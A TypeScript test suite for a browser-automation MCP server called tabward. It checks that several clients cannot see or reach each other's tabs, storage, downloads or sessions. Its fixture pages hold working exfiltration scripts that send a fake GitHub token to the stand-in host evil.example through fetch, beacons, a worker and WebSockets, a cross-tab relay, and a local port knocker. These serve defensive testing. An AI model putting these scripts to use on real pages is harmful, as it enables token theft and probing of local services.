// Attacks on several MCP clients of one `tabward mcp --http` (issue 36): a hostile page (and a hostile or
// prompt-injected client beside an honest one) trying to cross from one client's world into another's, or past the
// choke point through what the clients share: the one browser process in isolated mode (its storage, HTTP cache,
// tabward's own ports), the audit log, the session lifecycle (DELETE while a page sends, the browser crashing) and,
// in the user's Chrome, the tabs each client hides from the others (a client leaving, a popup being adopted). The
// human's answers across clients: attackClientsAnswers.test.ts.
// The real CLI, the real SDK client over Streamable HTTP, real Chromium; every host name maps to the fixtures.

import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { type Connected, clientsOf, startMcpHttp, stopAll } from '../helpers/mcpHttpClients.ts';
import { initializeBody, postMcp } from '../helpers/rawMcp.ts';
import type { RunningTabward } from '../helpers/tabwardProcess.ts';
import { waitFor } from '../helpers/waitFor.ts';

const secret = 'ghp_attackClients_5521';

interface AuditRecord {
  session?: string;
  tool?: string;
  url?: string;
  reason?: string;
  outcome?: string;
  args?: { url?: string; pageId?: string };
}

function auditOf(home: string): AuditRecord[] {
  return readFileSync(join(home, 'audit.jsonl'), 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as AuditRecord);
}

describe("attacks across clients in the user's Chrome", { timeout: 180_000 }, () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: RunningTabward;
  let home = '';
  const open: Connected[] = [];
  const { connect, call, leave } = clientsOf(() => tabward, open);

  before(async () => {
    site = await startFixture(
      {
        '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>The user reads this</p>'),
        '/a': (_req, _body, res) => html(res, `<title>A</title><p>Client A read ${secret}</p>`),
        '/b': (_req, _body, res) => html(res, '<title>B</title><p>Client B was here</p>'),
        // A page of A's that opens popups by itself, one every 30 ms, with and without an opener.
        '/spawner': (_req, _body, res) =>
          html(
            res,
            `<title>Spawner</title><p>spawning</p><script>let n = 0; const t = setInterval(() => { n++; window.open('/child?n=' + n, '_blank', n % 2 ? '' : 'noopener'); if (n >= 12) clearInterval(t); }, 30)</script>`,
          ),
        '/child': (_req, _body, res) => html(res, `<title>Child</title><p>A's popup ${secret}</p>`),
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
        // A page of the sensitive site (not itself sensitive) that brings the token onto itself, then tells every
        // same-origin page of the profile: a channel, storage, a cookie.
        '/repo-bc': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p id="out">loading</p><script>fetch('/settings/tokens').then((r) => r.text()).then((t) => { const got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; localStorage.setItem('got', got); document.cookie = 'got=' + encodeURIComponent(got) + '; path=/'; const bc = new BroadcastChannel('relay'); setInterval(() => bc.postMessage(got), 50); })</script>`,
          ),
        // Another page of the same site, in another client's tab: it passes on whatever it hears.
        '/relay': (_req, _body, res) =>
          html(
            res,
            `<title>Relay</title><p>public page</p><script>const out = (t) => fetch('https://evil.example:' + location.port + '/collect?relayed=' + encodeURIComponent(t), { mode: 'no-cors' }).catch(() => {}); out('alive'); new BroadcastChannel('relay').onmessage = (e) => out('bc:' + e.data); setInterval(() => { const v = localStorage.getItem('got'); if (v) out('ls:' + v); }, 200);</script>`,
          ),
        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
      },
      { tls: true },
    );
    chrome = await startUserChrome({
      // The user's Chrome lets a page open windows by itself (a popup blocker is no defence tabward relies on).
      chromeArgs: [...testChromeArgs, '--disable-popup-blocking'],
      openTab: site.url('mine.example', '/mine'),
    });
    home = mkdtempSync(join(tmpdir(), 'tabward-attack-clients-chrome-'));
    tabward = await startMcpHttp(
      ['--mode', 'shared', '--ws-endpoint', chrome.wsEndpoint, '--approval', 'deny'],
      home,
    );
  });
  after(async () => {
    await stopAll(tabward, open);
    await chrome?.close();
    await site?.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  test("while a client leaves, its tabs are never listed to (nor read by) another client as the user's", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    for (let n = 0; n < 3; n++) {
      const opened = await call(a.client, 'new_page', { url: site.url('a.example', `/a?n=${n}`) });
      assert.match(opened.text, /"A"/);
    }
    assert.doesNotMatch((await call(b.client, 'list_pages')).text, /a\.example/);
    // B lists (and reads whatever it finds) as fast as it can while A goes away.
    const seen: string[] = [];
    let leaving = true;
    const watching = (async () => {
      while (leaving) {
        const listed = (await call(b.client, 'list_pages')).text;
        for (const line of listed.split('\n'))
          if (line.includes('a.example')) {
            seen.push(line);
            const id = /\b(p\d+)\b/.exec(line)?.[1];
            if (id) {
              const read = await call(b.client, 'take_snapshot', { pageId: id });
              if (read.text.includes(secret)) seen.push(`read ${id}: ${secret}`);
            }
          }
      }
    })();
    await new Promise((done) => setTimeout(done, 100));
    await leave(a);
    await new Promise((done) => setTimeout(done, 2_000));
    leaving = false;
    await watching;
    assert.deepEqual(seen, [], `B saw A's tabs while A left:\n${seen.join('\n')}`);
    await leave(b);
  });

  test("popups a client's page opens by itself (with or without an opener) are never another client's to see", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const seen: string[] = [];
    let watchingOn = true;
    const watching = (async () => {
      while (watchingOn) {
        const listed = (await call(b.client, 'list_pages')).text;
        for (const line of listed.split('\n'))
          if (line.includes('/child') || line.includes('/spawner')) seen.push(line);
      }
    })();
    await call(a.client, 'new_page', { url: site.url('a.example', '/spawner') });
    await waitFor(
      'the popups opened',
      () => site.seen.filter((s) => s.path.startsWith('/child')).length >= 12,
      {
        timeoutMs: 20_000,
      },
    );
    // A popup's request can reach the site before its tab is told to tabward (a loaded machine): A's list is
    // waited for, while B goes on listing; B then lists for one more second.
    let listedA = '';
    await waitFor(
      'A to own its 12 popups',
      async () => {
        listedA = (await call(a.client, 'list_pages')).text;
        return (listedA.match(/\[agent\] \S+\/child/g) ?? []).length === 12;
      },
      { timeoutMs: 20_000 },
    ).catch(() => assert.fail(`A owns its popups:\n${listedA}`));
    await new Promise((done) => setTimeout(done, 1_000));
    watchingOn = false;
    await watching;
    assert.deepEqual(seen, [], `B saw A's popups:\n${seen.join('\n')}`);
    await leave(a);
    await leave(b);
  });

  test("no tab id another client can name closes, selects, navigates or reads a client's tab", async () => {
    const a = await connect();
    const b = await connect();
    await call(a.client, 'new_page', { url: site.url('a.example', '/a?guess') });
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    for (let n = 1; n <= 30; n++) {
      const pageId = `p${n}`;
      for (const [tool, args] of [
        ['select_page', { pageId }],
        ['take_screenshot', { pageId }],
        ['navigate_page', { pageId, url: site.url('b.example', '/b?took') }],
        ['close_page', { pageId }],
      ] as const) {
        const done = await call(b.client, tool, args);
        assert.doesNotMatch(done.text, /a\.example|Client A read/, `${tool} ${pageId} from B: ${done.text}`);
      }
      // B may close its own and the user's tabs: open its own again for the next round.
      if (!(await call(b.client, 'list_pages')).text.includes('b.example'))
        await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    }
    const listedA = (await call(a.client, 'list_pages')).text;
    assert.match(listedA, /\[agent\] \S+\/a\?guess/, `A's tab is still there, where it was:\n${listedA}`);
    assert.doesNotMatch(listedA, /took/);
    await leave(a);
    await leave(b);
  });

  // Got through before ClientTabs.beginOpening: B listed A's tab as [user] between its creation and A's new_page
  // knowing it as its own (the tab is guarded first).
  test("a tab a client is opening is never listed to another client as the user's", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('b.example', '/b') });
    const seen: string[] = [];
    let watchingOn = true;
    const watching = (async () => {
      while (watchingOn) {
        const listed = (await call(b.client, 'list_pages')).text;
        for (const line of listed.split('\n'))
          if (line.includes('[user]') && !line.includes('mine.example')) seen.push(line);
      }
    })();
    for (let n = 0; n < 8; n++)
      await call(a.client, 'new_page', { url: site.url('a.example', `/a?fresh=${n}`) });
    watchingOn = false;
    await watching;
    assert.deepEqual(seen, [], `B saw A's tabs as the user's:\n${seen.join('\n')}`);
    await leave(a);
    await leave(b);
  });

  test("what a tainted client's page hands to another client's tab of the same site (one profile: a channel, storage) does not leave through it", async () => {
    const a = await connect();
    const b = await connect();
    const before = site.seen.length;
    await call(b.client, 'new_page', { url: site.url('github.com', '/relay') });
    await call(a.client, 'new_page', { url: site.url('github.com', '/repo-bc') });
    await waitFor('A to see the token', async () =>
      (await call(a.client, 'take_snapshot')).text.includes(secret),
    );
    await new Promise((done) => setTimeout(done, 2_000));
    const collectedPaths = site.seen
      .slice(before)
      .filter((seen) => seen.path.startsWith('/collect'))
      .map((seen) => seen.path);
    assert.ok(
      collectedPaths.includes('/collect?relayed=alive'),
      `B's tab may send: ${collectedPaths.join(' ')} ${site.seen
        .slice(before)
        .map((seen) => seen.path)
        .join(' ')} ${(await call(b.client, 'take_snapshot')).text}`,
    );
    const leaked = site.seen
      .slice(before)
      .filter((seen) => seen.path.startsWith('/collect') && seen.path.includes('ghp_'));
    assert.deepEqual(leaked.map((seen) => seen.path).slice(0, 3), [], "A's token left through B's tab");
    await leave(a);
    await leave(b);
  });
});

/** The TCP ports a process listens on (Linux: its socket inodes matched in /proc/net/tcp). */
function listeningPorts(pid: number): number[] {
  const inodes = new Set<string>();
  for (const fd of readdirSync(`/proc/${pid}/fd`)) {
    try {
      const link = readlinkSync(`/proc/${pid}/fd/${fd}`);
      const inode = /^socket:\[(\d+)\]$/.exec(link)?.[1];
      if (inode) inodes.add(inode);
    } catch {
      // closed meanwhile
    }
  }
  const ports = new Set<number>();
  for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
    let text = '';
    try {
      text = readFileSync(table, 'utf8');
    } catch {
      continue;
    }
    for (const line of text.trim().split('\n').slice(1)) {
      const cols = line.trim().split(/\s+/);
      const [, local, , state, , , , , , inode] = cols;
      if (state === '0A' && inode && inodes.has(inode) && local)
        ports.add(Number.parseInt(local.split(':')[1] ?? '0', 16));
    }
  }
  return [...ports];
}

describe('attacks across clients of one isolated browser', { timeout: 300_000 }, () => {
  let site: Fixture;
  let tabward: RunningTabward;
  let home = '';
  const open: Connected[] = [];
  const { endpoint, token, connect, call, leave } = clientsOf(() => tabward, open);
  /** Released by the test: the slow page's answer. */
  let releaseSlow: () => void = () => undefined;
  const collected = () => site.seen.filter((seen) => seen.path.startsWith('/collect'));

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${secret}</p>`),
        // Brings the token page's content onto itself (a sensitive read, which taints its client), then keeps
        // trying to send it out: fetches, beacons, a worker's fetch and socket, and a beacon as it goes.
        '/repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p id="out">loading</p><script>
            let got = '';
            fetch('/settings/tokens').then((r) => r.text()).then((t) => { got = t.replace(/<[^>]+>/g, ' ').trim(); out.textContent = got; });
            const send = (how) => { if (!got) return; const u = 'https://evil.example:' + location.port + '/collect?how=' + how + '&t=' + encodeURIComponent(got); try { fetch(u, { mode: 'no-cors', keepalive: true }).catch(() => {}); } catch {} try { navigator.sendBeacon(u + '&beacon=1', got); } catch {} };
            setInterval(() => send('loop'), 50);
            addEventListener('pagehide', () => send('pagehide'));
            const worker = new Worker(URL.createObjectURL(new Blob(['const port = ' + JSON.stringify(location.port) + '; onmessage = (e) => { setInterval(() => { fetch("https://evil.example:" + port + "/collect?how=worker&t=" + e.data, { mode: "no-cors" }).catch(() => {}); try { new WebSocket("wss://evil.example:" + port + "/collect-ws?t=" + e.data); } catch {} }, 200); }'])));
            setInterval(() => { if (got) worker.postMessage(encodeURIComponent(got)); }, 500);
            </script>`,
          ),
        // Writes what it is given into every store of its origin, and keeps announcing it on a BroadcastChannel;
        // loads /cached only when the bit is 1 (an HTTP-cache channel).
        '/store': (req, _body, res) => {
          const v = new URL(req.url ?? '/', 'https://x').searchParams.get('v') ?? '';
          html(
            res,
            `<title>Store</title><p id="s">storing</p><script>
            const v = ${JSON.stringify(v)};
            localStorage.setItem('v', v);
            document.cookie = 'v=' + v + '; path=/';
            const bc = new BroadcastChannel('tabward-attack'); setInterval(() => bc.postMessage(v), 50);
            const idb = indexedDB.open('attack', 1); idb.onupgradeneeded = () => idb.result.createObjectStore('s'); idb.onsuccess = () => { const tx = idb.result.transaction('s', 'readwrite'); tx.objectStore('s').put(v, 'v'); };
            caches.open('attack').then((c) => c.put('/v', new Response(v)));
            navigator.locks.request('attack-lock-' + v, () => new Promise(() => {}));
            fetch('/cached?bit=1').then(() => { s.textContent = 'stored'; });
            </script>`,
          );
        },
        '/probe': (_req, _body, res) =>
          html(
            res,
            `<title>Probe</title><p id="r">probing</p><script>
            const found = [];
            const bc = new BroadcastChannel('tabward-attack'); bc.onmessage = (e) => found.push('broadcast:' + e.data);
            if (localStorage.getItem('v')) found.push('localStorage:' + localStorage.getItem('v'));
            if (document.cookie) found.push('cookie:' + document.cookie);
            const idb = indexedDB.open('attack', 1); idb.onupgradeneeded = () => idb.result.createObjectStore('s');
            idb.onsuccess = () => { const g = idb.result.transaction('s').objectStore('s').get('v'); g.onsuccess = () => { if (g.result) found.push('indexedDB:' + g.result); }; };
            caches.keys().then((k) => { if (k.length) found.push('caches:' + k.join(',')); });
            navigator.locks.query().then((q) => { for (const l of q.held ?? []) found.push('lock:' + l.name); });
            fetch('/cached?bit=1', { cache: 'only-if-cached', mode: 'same-origin' }).then(() => found.push('httpCache:hit')).catch(() => {});
            setTimeout(() => { r.textContent = 'done: [' + found.join(' ') + ']'; }, 1500);
            </script>`,
          ),
        '/cached': (_req, _body, res) =>
          html(res, '<title>Cached</title><p>cached</p>', 200, { 'cache-control': 'public, max-age=3600' }),
        '/plain': (_req, _body, res) => html(res, '<title>Plain</title><p>plain page</p>'),
        // Knocks on every port it is given, on a name the rules allow after the read and on loopback.
        '/knock': (req, _body, res) => {
          const ports = new URL(req.url ?? '/', 'https://x').searchParams.get('ports') ?? '';
          html(
            res,
            `<title>Knock</title><p id="k">knocking</p><script>
            const ports = ${JSON.stringify(ports)}.split(',').filter(Boolean);
            const knock = (u) => fetch(u, { method: 'POST', mode: 'no-cors', body: '{}' }).then(() => true, () => false);
            Promise.all(ports.map((p) => Promise.all([knock('http://127.0.0.1:' + p + '/mcp'), knock('https://127.0.0.1:' + p + '/mcp')]).then((r) => p + (r.some(Boolean) ? ':reached' : ':refused')))).then((r) => { k.textContent = 'knocked [' + r.join(' ') + ']'; });
            </script>`,
          );
        },
        '/slow': (_req, _body, res) => {
          releaseSlow = () => {
            if (!res.headersSent) html(res, '<title>Slow</title><p>At last</p>');
          };
        },
        '/portal': (_req, _body, res) =>
          html(res, '<title>Portal</title><a href="/export.csv">Export CSV</a>'),
        '/export.csv': (_req, _body, res) => {
          res.writeHead(200, {
            'content-type': 'text/csv',
            'content-disposition': 'attachment; filename="orders-of-a.csv"',
          });
          res.end('id,total\n1,9.99\n');
        },
        '/collect': (_req, _body, res) => html(res, '<title>Collected</title><p>ok</p>'),
        '/upload': (_req, _body, res) =>
          html(
            res,
            '<title>Upload</title><form method="post" action="/collect" enctype="multipart/form-data"><label>File <input type="file" name="f" multiple></label><button>Send</button></form>',
          ),
        // A login page that shows back what is typed into its password field, and another site's payment page.
        '/login-echo': (_req, _body, res) =>
          html(
            res,
            `<title>Login</title><label>Password <input id=pw type=password></label><p id=out></p><script>pw.addEventListener('input', () => { out.textContent = 'typed ' + pw.value; });</script>`,
          ),
        '/pay-to': (_req, _body, res) => html(res, '<title>Pay</title><p>Recipient DE11HONEST77</p>'),
        // A frame of the tab's own site alerting inside a cross-site frame (tabward's browsers open no dialog of a
        // frame of another origin than the tab's), which then removes it: answering that dialog, or closing its
        // tab or context, crashes the browser. The tab is retired.
        '/host': (req, _body, res) =>
          html(
            res,
            `<title>Host</title><h1>Host</h1><iframe src="https://other.example:${(req.headers.host ?? '').split(':')[1] ?? ''}/middle"></iframe>`,
          ),
        '/middle': (req, _body, res) =>
          html(
            res,
            `<script>addEventListener('message', () => setTimeout(() => document.querySelector('iframe').remove(), 500));</script><iframe src="https://evil.example:${(req.headers.host ?? '').split(':')[1] ?? ''}/alerting"></iframe>`,
          ),
        '/alerting': (_req, _body, res) =>
          html(
            res,
            "<p>frame</p><script>parent.postMessage('alerting', '*'); setTimeout(() => alert('from a frame'), 50);</script>",
          ),
      },
      // github.com is on Chromium's HSTS preload list: its pages come over TLS.
      { tls: true },
    );
    home = mkdtempSync(join(tmpdir(), 'tabward-attack-clients-'));
    tabward = await startMcpHttp(
      ['--mode', 'isolated', '--approval', 'deny', '--max-sessions', '4', '--session-idle', '2'],
      home,
    );
  });
  after(async () => {
    releaseSlow();
    await stopAll(tabward, open);
    await site?.close();
    rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  });

  // A test that failed leaves no session behind to fill --max-sessions for the next.
  afterEach(async () => {
    await Promise.all(open.splice(0).map((each) => leave(each)));
  });

  let taints = 0;
  /** A reads the token page (tainted), its page trying to send it out from then on; its URL names the client. */
  const taint = async (a: Client) => {
    const url = site.url('github.com', `/repo?client=${++taints}`);
    await call(a, 'new_page', { url });
    await waitFor('A to see the token', async () => (await call(a, 'take_snapshot')).text.includes(secret));
    const [session] = sessionOf(`/repo?client=${taints}`);
    assert.ok(session, 'A has an audit session');
    return session;
  };
  const sessionOf = (url: string) =>
    new Set(
      auditOf(home)
        .filter((record) => record.args?.url?.includes(url))
        .map((record) => record.session),
    );

  test("no store, channel or cache of the one browser carries one client's data to another's page", async () => {
    const a = await connect();
    const b = await connect();
    const stored = await call(a.client, 'new_page', { url: site.url('store.example', `/store?v=${secret}`) });
    assert.equal(stored.isError, false, stored.text);
    await waitFor('A stored', async () => (await call(a.client, 'take_snapshot')).text.includes('stored'));
    const cachedBefore = site.seen.filter((seen) => seen.path === '/cached?bit=1').length;
    await call(b.client, 'new_page', { url: site.url('store.example', '/probe') });
    let probed = '';
    await waitFor('B probed', async () => {
      probed = (await call(b.client, 'take_snapshot')).text;
      return probed.includes('done:');
    });
    assert.match(probed, /done: \[\]/, `B's page found A's data: ${probed}`);
    assert.doesNotMatch(probed, new RegExp(secret));
    // B's only-if-cached probe never touched the network, and found nothing in A's cache.
    assert.equal(site.seen.filter((seen) => seen.path === '/cached?bit=1').length, cachedBefore);
    await leave(a);
    await leave(b);
  });

  test("what one client types into a password field is hidden from its own reads, not from another client's pages", async () => {
    const a = await connect();
    const b = await connect();
    await call(a.client, 'new_page', { url: site.url('login.example', '/login-echo') });
    const login = await call(a.client, 'take_snapshot');
    const filled = await call(a.client, 'fill', {
      ref: refOf(login.text, 'Password'),
      value: 'DE11HONEST77',
    });
    assert.equal(filled.isError, false, filled.text);
    const echoed = (await call(a.client, 'take_snapshot')).text;
    assert.match(echoed, /typed \S/, echoed);
    assert.doesNotMatch(echoed, /DE11HONEST77/, echoed);
    await call(b.client, 'new_page', { url: site.url('pay.example', '/pay-to') });
    const paying = await call(b.client, 'take_snapshot');
    assert.match(paying.text, /Recipient DE11HONEST77/, "B reads its own page's recipient");
    await leave(a);
    await leave(b);
  });

  test("a client's page reaches none of tabward's ports (the MCP endpoint, another client's egress proxy)", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
    await call(a.client, 'new_page', { url: site.url('plain.example', '/plain') });
    const ports = listeningPorts(tabward.child.pid ?? 0);
    const mcpPort = Number(new URL(endpoint()).port);
    assert.ok(ports.includes(mcpPort), `the MCP port is among ${ports.join(',')}`);
    // A's proxy, B's, the shared browser's own, the MCP endpoint: at least four.
    assert.ok(ports.length >= 4, `tabward listens on ${ports.join(',')}`);
    // The fixture's own port shows a knock that is let through reads as reached.
    const control = new URL(site.url('plain.example', '/')).port;
    await call(a.client, 'navigate_page', {
      url: site.url('knock.example', `/knock?ports=${[...ports, control].join(',')}`),
    });
    let knocked = '';
    await waitFor('the knocks', async () => {
      knocked = (await call(a.client, 'take_snapshot')).text;
      return knocked.includes('knocked [');
    });
    assert.match(knocked, new RegExp(`${control}:reached`), knocked);
    for (const port of ports) assert.match(knocked, new RegExp(`${port}:refused`), knocked);
    await leave(a);
    await leave(b);
  });

  test("what a tainted client's page sends is stopped in that client's audit session, never another's; and stops when it leaves", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
    const sentBefore = collected().length;
    const auditBefore = auditOf(home).length;
    const sessionA = await taint(a.client);
    await new Promise((done) => setTimeout(done, 1_500));
    // B stays free to send; A's page never gets the token out, not even as A's session ends under it.
    const fromB = await call(b.client, 'navigate_page', { url: site.url('evil.example', '/collect?from=b') });
    assert.equal(fromB.isError, false, fromB.text);
    const sessionB = [...sessionOf('/collect?from=b')][0];
    assert.ok(sessionA && sessionB && sessionA !== sessionB);
    await leave(a);
    await new Promise((done) => setTimeout(done, 2_000));
    const sent = collected().slice(sentBefore);
    assert.deepEqual(
      sent.map((seen) => seen.path),
      ['/collect?from=b'],
      'nothing of A reached evil.example',
    );
    const stops = auditOf(home)
      .slice(auditBefore)
      .filter(
        (record) =>
          record.outcome === 'blocked' && (record.url ?? record.args?.url ?? '').includes('evil.example'),
      );
    assert.ok(
      stops.some((record) => record.session === sessionA),
      "the attempts are on A's record",
    );
    // (Earlier tests' clients, still closing, may add stops of their own sessions; none is B's.)
    assert.deepEqual(
      stops.filter((record) => record.session === sessionB),
      [],
      "no stop of A's page is on B's session",
    );
    await leave(b);
  });

  test("the shared browser crashing does not untaint a client or lose another's world", async () => {
    const a = await connect();
    const b = await connect();
    await call(b.client, 'new_page', { url: site.url('plain.example', '/plain') });
    await taint(a.client);
    const status = (await call(a.client, 'browser_status')).text;
    const pid = Number(/pid (\d+)/.exec(status)?.[1]);
    assert.ok(pid > 0, status);
    const sentBefore = collected().length;
    process.kill(pid, 'SIGKILL');
    await new Promise((done) => setTimeout(done, 1_000));
    // The browser comes back for both: A still tainted, B still not.
    const fromA = await call(a.client, 'new_page', { url: site.url('evil.example', `/collect?t=${secret}`) });
    assert.equal(fromA.isError, true, `A is still tainted after the crash: ${fromA.text}`);
    const fromB = await call(b.client, 'new_page', { url: site.url('evil.example', '/collect?from=b2') });
    assert.equal(fromB.isError, false, fromB.text);
    const statusB = (await call(b.client, 'browser_status')).text;
    assert.match(statusB, /context: this client's own/, statusB);
    assert.deepEqual(
      collected()
        .slice(sentBefore)
        .map((seen) => seen.path),
      ['/collect?from=b2'],
    );
    await leave(a);
    await leave(b);
  });

  test('a client that ends its session while its first context is still opening leaves nothing behind, and takes no one else down', async () => {
    const watcher = await connect();
    await call(watcher.client, 'new_page', { url: site.url('plain.example', '/plain?watcher') });
    const contexts = async () =>
      Number(
        /(\d+) client context\(s\) in this browser/.exec(
          (await call(watcher.client, 'browser_status')).text,
        )?.[1] ?? -1,
      );
    for (let round = 0; round < 3; round++) {
      const quitter = await connect();
      const opening = call(quitter.client, 'new_page', {
        url: site.url('plain.example', '/plain?quitter'),
      }).catch(() => undefined);
      await new Promise((done) => setTimeout(done, 30 * round));
      await leave(quitter);
      await opening;
    }
    await waitFor('the quitters left no context', async () => (await contexts()) === 1, {
      timeoutMs: 20_000,
    });
    const still = await call(watcher.client, 'take_snapshot');
    assert.match(still.text, /plain page/, `the watcher's tab is still there: ${still.text}`);
    await leave(watcher);
  });

  test("one client's downloads are not another's to list", async () => {
    const a = await connect();
    const b = await connect();
    await call(a.client, 'new_page', { url: site.url('portal.example', '/portal') });
    const shot = (await call(a.client, 'take_snapshot')).text;
    const clicked = await call(a.client, 'click', { ref: refOf(shot, 'Export CSV') });
    assert.match(clicked.text, /Downloaded orders-of-a\.csv/, clicked.text);
    assert.match((await call(a.client, 'list_downloads')).text, /orders-of-a\.csv/);
    const listedB = await call(b.client, 'list_downloads');
    assert.doesNotMatch(listedB.text, /orders-of-a/, listedB.text);
    // Nor to upload: A's download and the audit log of every client are tabward's own files, refused before anyone
    // is asked (an "approve all" B's human gave for B's own file once covered them).
    const aFile = readdirSync(join(home, 'downloads'), { recursive: true, withFileTypes: true }).find(
      (entry) => entry.name.includes('orders-of-a'),
    );
    assert.ok(aFile, "A's download is on disk");
    await call(b.client, 'new_page', { url: site.url('upload.example', '/upload') });
    const form = (await call(b.client, 'take_snapshot')).text;
    for (const path of [join(aFile.parentPath, aFile.name), join(home, 'audit.jsonl')]) {
      const uploaded = await call(b.client, 'upload_file', { ref: refOf(form, 'File'), paths: [path] });
      assert.equal(uploaded.isError, true, uploaded.text);
      assert.match(
        uploaded.text,
        /not_allowed: upload_file refused: .* is one of tabward's own files/,
        uploaded.text,
      );
    }
    await leave(a);
    await leave(b);
  });

  test("a client whose page retired its tab leaves without taking the one browser (and every other client's tabs) down", async () => {
    const a = await connect();
    const b = await connect();
    await call(a.client, 'new_page', { url: site.url('plain.example', '/plain?stays') });
    const pid = () => call(a.client, 'browser_status').then((status) => /pid (\d+)/.exec(status.text)?.[1]);
    const before = await pid();
    assert.ok(before, 'the browser has a pid');
    const opened = await call(b.client, 'new_page', { url: site.url('evil.example', '/host') });
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? 'p1';
    await waitFor(
      "B's tab retired",
      async () => /retired/.test((await call(b.client, 'take_snapshot', { pageId: tab })).text),
      { timeoutMs: 20_000, intervalMs: 300 },
    );
    await leave(b);
    await new Promise((done) => setTimeout(done, 2_000));
    const still = await call(a.client, 'take_snapshot');
    assert.match(still.text, /plain page/, `A's tab is still there: ${still.text}`);
    assert.equal(await pid(), before, 'the same browser');
    await leave(a);
  });

  test('sessions: a racing crowd of initializes stays within --max-sessions; an ended id is never served again; a call outlives --session-idle', async () => {
    // Twelve initializes at once on a server with room for four.
    const answers = await Promise.all(
      Array.from({ length: 12 }, () => postMcp(endpoint(), token(), initializeBody())),
    );
    const admitted = answers.filter((answer) => answer.status === 200);
    await Promise.all(answers.map((answer) => answer.text()));
    assert.equal(admitted.length, 4, `admitted ${answers.map((answer) => answer.status).join(',')}`);
    const ids = admitted.map((answer) => answer.headers.get('mcp-session-id') ?? '');
    for (const id of ids)
      await fetch(endpoint(), {
        method: 'DELETE',
        headers: {
          authorization: `Bearer ${token()}`,
          'mcp-session-id': id,
          'mcp-protocol-version': '2025-06-18',
        },
      });
    for (const id of ids) {
      const again = await postMcp(
        endpoint(),
        token(),
        JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'tools/list', params: {} }),
        id,
      );
      assert.equal(again.status, 404, `an ended session ${id} answered ${again.status}`);
      await again.text();
    }
    // A client with no event stream whose one call waits longer than --session-idle is not swept mid-call.
    const started = await postMcp(endpoint(), token(), initializeBody());
    assert.equal(started.status, 200);
    await started.text();
    const session = started.headers.get('mcp-session-id') ?? '';
    await (
      await postMcp(
        endpoint(),
        token(),
        JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }),
        session,
      )
    ).text();
    const slow = postMcp(
      endpoint(),
      token(),
      JSON.stringify({
        jsonrpc: '2.0',
        id: 3,
        method: 'tools/call',
        params: { name: 'new_page', arguments: { url: site.url('slow.example', '/slow') } },
      }),
      session,
    ).then((answer) => answer.text());
    await waitFor('the slow page requested', () => site.seen.some((seen) => seen.path === '/slow'), {
      timeoutMs: 30_000,
    });
    await new Promise((done) => setTimeout(done, 8_000));
    releaseSlow();
    const answered = await slow;
    assert.match(answered, /At last|Slow/, answered);
    const later = await postMcp(
      endpoint(),
      token(),
      JSON.stringify({
        jsonrpc: '2.0',
        id: 4,
        method: 'tools/call',
        params: { name: 'list_pages', arguments: {} },
      }),
      session,
    );
    assert.equal(later.status, 200, 'the session was not swept while its call ran');
    assert.match(await later.text(), /slow\.example/);
  });
});
